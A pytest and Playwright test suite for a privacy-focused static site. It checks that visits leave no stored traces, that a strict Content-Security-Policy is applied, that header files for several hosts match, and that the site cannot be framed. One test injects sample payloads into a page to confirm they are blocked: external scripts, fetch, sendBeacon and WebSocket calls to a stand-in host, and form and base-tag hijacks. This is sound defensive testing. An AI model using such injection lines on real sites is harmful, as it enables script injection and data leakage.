"""A visit leaves nothing on the phone, tells nobody, and runs and loads nothing but the site's own."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from collections.abc import Callable, Iterator
from xml.etree import ElementTree as ET

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request, Response, expect

from tests.site.built import BuiltSite
from tests.site.host import Host, hosted
from tests.site.page_types import samples

GUIDE = "guides/kiem-tra-loi-moi-viec-lam/"
POLICY = "Content-Security-Policy"
TRACES = """async () => ({
  cookie: document.cookie,
  local: Object.keys(localStorage),
  session: Object.keys(sessionStorage),
  databases: (await indexedDB.databases()).map((each) => each.name),
  caches: await caches.keys(),
  workers: (await navigator.serviceWorker.getRegistrations()).map((each) => each.scope),
})"""
NO_TRACES = {"cookie": "", "local": [], "session": [], "databases": [], "caches": [], "workers": []}
BLOCKED = "blocked.example"


@pytest.fixture
def context(browser: Browser, home: str) -> Iterator[BrowserContext]:
    """A browser with everything on, and a clipboard and a list of apps to offer buttons for."""
    context = browser.new_context(base_url=home, viewport={"width": 390, "height": 800})
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    context.add_init_script("navigator.share = async () => {}; window.print = () => {};")
    yield context
    context.close()


def watched(page: Page, origin: str) -> list[str]:
    """What the page asks of others, and whatever the browser complains of."""
    seen: list[str] = []

    def ask(request: Request) -> None:
        if not request.url.startswith(origin):
            seen.append(f"asked: {request.url}")

    page.on("request", ask)
    page.on("console", lambda message: seen.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: seen.append(f"error: {error}"))
    return seen


def test_a_visit_leaves_no_trace_and_tells_nobody(context: BrowserContext, home: str, site: BuiltSite) -> None:
    """Every type of page, read to its end with every script at work: nothing is stored, nothing asked of others."""
    page = context.new_page()
    seen = watched(page, home)
    for name, path in samples(site).items():
        page.goto(path)
        page.keyboard.press("End")
        page.keyboard.press("Tab")
        assert page.evaluate(TRACES) == NO_TRACES, name
        assert seen == [], name
    assert context.cookies() == []


@pytest.mark.parametrize(
    ("trace", "script"),
    [
        ("cookie", "document.cookie = 'a=b'"),
        ("local", "localStorage.setItem('a', 'b')"),
        ("session", "sessionStorage.setItem('a', 'b')"),
        ("databases", "new Promise(done => { indexedDB.open('a').onsuccess = done })"),
        ("caches", "caches.open('a')"),
        ("workers", "navigator.serviceWorker.register('/sw.js')"),
    ],
)
def test_traces_are_noticed(trace: str, script: str, context: BrowserContext) -> None:
    """The same look sees each kind of trace."""
    page = context.new_page()
    page.goto("about/")
    page.evaluate(f"async () => {{ await ({script}); }}")
    assert page.evaluate(TRACES)[trace] not in ("", [])


def test_buttons_ask_nobody(context: BrowserContext, home: str) -> None:
    """Copying, printing and the phone's own list of apps stay on the phone, and leave nothing in it."""
    page = context.new_page()
    seen = watched(page, home)
    page.goto(GUIDE)
    buttons = page.locator("[data-print], [data-share-copy], [data-share-system]")
    expect(buttons.locator("visible=true")).to_have_count(3)
    for button in buttons.all():
        button.click()
    expect(page.locator("[data-share-status]")).not_to_be_empty()
    assert (page.evaluate(TRACES), seen) == (NO_TRACES, [])


def directives(policy: str) -> dict[str, list[str]]:
    """What a policy allows, by what it is for."""
    parts = [rule.split() for rule in policy.split(";")]
    assert len({part[0] for part in parts}) == len(parts)
    return {part[0]: part[1:] for part in parts}


def policy_of(site: BuiltSite, path: str) -> str:
    """The policy in a page."""
    return site.pages[path].one("meta", **{"http-equiv": POLICY}).get("content")


@pytest.mark.parametrize("name", ["site", "site_in_folder"])
def test_every_page_has_one_and_the_same_policy(name: str, request: pytest.FixtureRequest) -> None:
    """Nothing unless allowed; only the site itself is, and the one script that stands in the page."""
    built: BuiltSite = request.getfixturevalue(name)
    assert len({policy_of(built, path) for path in built.pages}) == 1
    allowed = directives(policy_of(built, ""))
    assert allowed["default-src"] == ["'none'"]
    assert allowed["base-uri"] == allowed["form-action"] == ["'none'"]
    words = {word for sources in allowed.values() for word in sources}
    assert {word for word in words if not word.startswith("'sha256-")} == {"'none'", "'self'"}
    assert [key for key, words in allowed.items() if any("sha256" in word for word in words)] == ["script-src"]


def test_the_digest_is_that_of_the_script_as_browsers_read_it(context: BrowserContext, site: BuiltSite) -> None:
    """On every type of page, the script in the page is the one the policy names."""
    named = [word for word in directives(policy_of(site, ""))["script-src"] if word.startswith("'sha256-")]
    page = context.new_page()
    for name, path in samples(site).items():
        page.goto(path)
        (script,) = page.evaluate(
            "[...document.scripts].filter(each => !each.src && !each.type).map(each => each.textContent)"
        )
        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
        assert named == [f"'sha256-{digest}'"], name


@pytest.mark.parametrize(
    ("what", "script"),
    [
        ("script-src-elem", "add('script', {textContent: 'window.ran = true'})"),
        ("script-src-elem", f"add('script', {{src: 'https://{BLOCKED}/x.js'}})"),
        ("script-src-attr", "add('p', {}).setAttribute('onclick', 'window.ran = true')"),
        ("img-src", f"add('img', {{src: 'https://{BLOCKED}/x.png'}})"),
        ("img-src", "add('img', {src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw='})"),
        ("style-src-elem", f"add('link', {{rel: 'stylesheet', href: 'https://{BLOCKED}/x.css'}})"),
        ("style-src-elem", "add('style', {textContent: 'p { color: red }'})"),
        ("frame-src", f"add('iframe', {{src: 'https://{BLOCKED}/'}})"),
        ("media-src", f"add('video', {{src: 'https://{BLOCKED}/x.mp4'}})"),
        ("connect-src", f"fetch('https://{BLOCKED}/').catch(() => {{}})"),
        ("connect-src", f"navigator.sendBeacon('https://{BLOCKED}/', 'x')"),
        ("connect-src", f"new WebSocket('wss://{BLOCKED}/').onerror = () => {{}}"),
        ("form-action", f"add('form', {{action: 'https://{BLOCKED}/'}}).submit()"),
        ("base-uri", f"document.head.append(add('base', {{href: 'https://{BLOCKED}/'}}))"),
    ],
)
def test_what_is_put_into_a_page_is_blocked(what: str, script: str, context: BrowserContext, home: str) -> None:
    """Whoever gets something into a page can neither run it nor call home with it."""
    page = context.new_page()
    page.goto("about/")
    asked: list[str] = []
    context.route(f"**://{BLOCKED}/**", lambda route: (asked.append(route.request.url), route.abort()))
    blocked = page.evaluate(
        f"""() => new Promise((done) => {{
          addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
          const add = (tag, values) => {{
            const element = Object.assign(document.createElement(tag), values);
            document.body.append(element);
            return element;
          }};
          {script};
        }})"""
    )
    assert blocked == what
    assert page.evaluate("window.ran") is None
    assert asked == []
    assert page.url == f"{home}about/"


def test_links_tell_nobody_where_a_reader_came_from(browser: Browser, home: str, site: BuiltSite) -> None:
    """By the page's own word and by each link's; and so does the browser, when one is followed."""
    for path, page in site.pages.items():
        assert page.one("meta", name="referrer").get("content") == "no-referrer", path
        for link in page.all("a"):
            if link.get("href").startswith(("http:", "https:")):
                assert "noreferrer" in link.get("rel").split(), f"{path}: {link.get('href')}"
    context = browser.new_context(base_url=home)
    context.route(re.compile("^https://"), lambda route: route.fulfill(body="elsewhere", content_type="text/html"))
    tab = context.new_page()
    for selector in (".sources a[href^='https://']", ".share a[href^='https://']", "[data-exit]"):
        tab.goto(GUIDE)
        with tab.expect_navigation(url=re.compile("^https://")):
            tab.locator(selector).first.click()
        assert tab.evaluate("document.referrer") == "", selector
    tab.goto("about/")
    tab.evaluate("document.querySelector('meta[name=referrer]').content = 'unsafe-url'")
    tab.locator("main").evaluate("element => { element.innerHTML = '<a href=https://elsewhere.example/>x</a>' }")
    with tab.expect_navigation(url=re.compile("^https://")):
        tab.locator("main a").click()
    assert tab.evaluate("document.referrer") == f"{home}about/"
    context.close()


Headers = dict[str, str]


def netlify(text: str) -> dict[str, Headers]:
    """Headers by pattern of paths, of Netlify's and Cloudflare's file."""
    rules: dict[str, Headers] = {}
    pattern = ""
    for line in text.splitlines():
        if line.startswith("/"):
            pattern = line
        else:
            name, value = line.strip().split(": ", 1)
            rules.setdefault(pattern, {})[name] = value
    return rules


def of_netlify(text: str) -> Headers:
    return netlify(text)["/*"]


def of_apache(text: str) -> Headers:
    opened, closed = re.findall(r"^ *<(\w+)", text, re.MULTILINE), re.findall(r"^ *</(\w+)>", text, re.MULTILINE)
    assert opened == closed[::-1]
    return dict(re.findall(r'^  Header always set ([\w-]+) "([^"\n]*)"$', text, re.MULTILINE))


def of_iis(text: str) -> Headers:
    root = ET.fromstring(text.encode())  # noqa: S314  (made by us)
    return {each.get("name", ""): each.get("value", "") for each in root.iter("add")}


def of_vercel(text: str) -> Headers:
    rules = {rule["source"]: rule["headers"] for rule in json.loads(text)["headers"]}
    return {each["key"]: each["value"] for each in rules["/(.*)"]}


def of_nginx(text: str) -> Headers:
    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert [line for line in lines if not line.endswith((";", "}"))] == []
    return dict(re.findall(r'^add_header ([\w-]+) "([^"\n]*)" always;$', text, re.MULTILINE))


@pytest.mark.parametrize(
    ("file", "read"),
    [
        ("_headers", of_netlify),
        (".htaccess", of_apache),
        ("web.config", of_iis),
        ("vercel.json", of_vercel),
        ("headers.nginx.conf", of_nginx),
    ],
)
def test_header_files_say_what_the_pages_say(file: str, read: Callable[[str], Headers], site: BuiltSite) -> None:
    """Each can be read in its format; the same policy, and that nobody may frame the site."""
    headers = read((site.folder / file).read_text(encoding="utf-8"))
    assert headers.pop(POLICY) == f"{policy_of(site, '')}; frame-ancestors 'none'"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    others = of_netlify((site.folder / "_headers").read_text(encoding="utf-8"))
    assert headers == {name: value for name, value in others.items() if name != POLICY}


@pytest.fixture
def strict(site: BuiltSite) -> Iterator[str]:
    """The real site at a host that sends the headers it is told to send."""
    rules = netlify((site.folder / "_headers").read_text(encoding="utf-8"))
    patterns = {re.compile(re.escape(pattern).replace(r"\*", ".*")): headers for pattern, headers in rules.items()}

    def headers(path: str) -> Headers:
        found = [given for pattern, given in patterns.items() if pattern.fullmatch(path)]
        return {name: value for given in found for name, value in given.items()}

    with hosted(Host(site.folder, headers)) as address:
        yield address


def test_the_site_works_under_its_headers(strict: str, browser: Browser) -> None:
    """Style, scripts, the way out and keeping pages; without a word from the console."""
    context = browser.new_context(base_url=strict, viewport={"width": 390, "height": 800})
    context.route(re.compile("^https://"), lambda route: route.fulfill(body="elsewhere", content_type="text/html"))
    page = context.new_page()
    seen = watched(page, strict)
    answer = page.goto("help/")
    assert answer is not None
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    expect(page.locator("[data-print]")).to_be_visible()
    assert page.evaluate("[...document.styleSheets].some(sheet => sheet.cssRules.length > 50)")
    page.locator("[data-keep-save]").click()
    expect(page.locator("[data-keep-erase]")).to_be_visible()
    context.set_offline(True)
    page.goto(GUIDE)
    expect(page.locator(".article-guides")).to_be_visible()
    page.locator("[data-keep-erase]").click()
    expect(page.locator("[data-keep-save]")).to_be_visible()
    context.set_offline(False)
    assert (page.evaluate(TRACES), seen) == (NO_TRACES, [])
    with page.expect_navigation(url=re.compile("^https://")):
        page.locator("[data-exit]").click()
    assert page.inner_text("body") == "elsewhere"
    context.close()


def test_nobody_may_frame_the_site(strict: str, home: str, browser: Browser) -> None:
    """A page around ours could cover what it shows, and the way out; without the headers, it can."""
    context = browser.new_context()
    page = context.new_page()
    frames = f"<iframe src='{strict}help/'></iframe><iframe src='{home}help/'></iframe>"
    page.route(f"{home}frames", lambda route: route.fulfill(body=frames, content_type="text/html"))
    page.goto(f"{home}frames")
    assert [frame.url for frame in page.frames[1:]] == ["chrome-error://chromewebdata/", f"{home}help/"]
    context.close()


def test_only_what_never_changes_may_be_kept_for_good(strict: str, browser: Browser) -> None:
    """The name of a style or script changes with what is in it; a page with an outdated number must not live on."""
    context = browser.new_context(base_url=strict)
    page = context.new_page()
    lasting: dict[str, bool] = {}

    def note(answer: Response) -> None:
        lasting[answer.url] = "immutable" in answer.headers.get("cache-control", "")

    page.on("response", note)
    for path in ("help/", "en/", "sw.js", "feed.xml", "assets/icon.svg"):
        page.goto(path)
    kept = {re.sub("[0-9a-f]{10}", "*", url.removeprefix(strict)) for url, is_lasting in lasting.items() if is_lasting}
    assert kept == {"assets/antoan.*.css", "assets/antoan.*.js"}
    assert len(lasting) >= 7
    context.close()
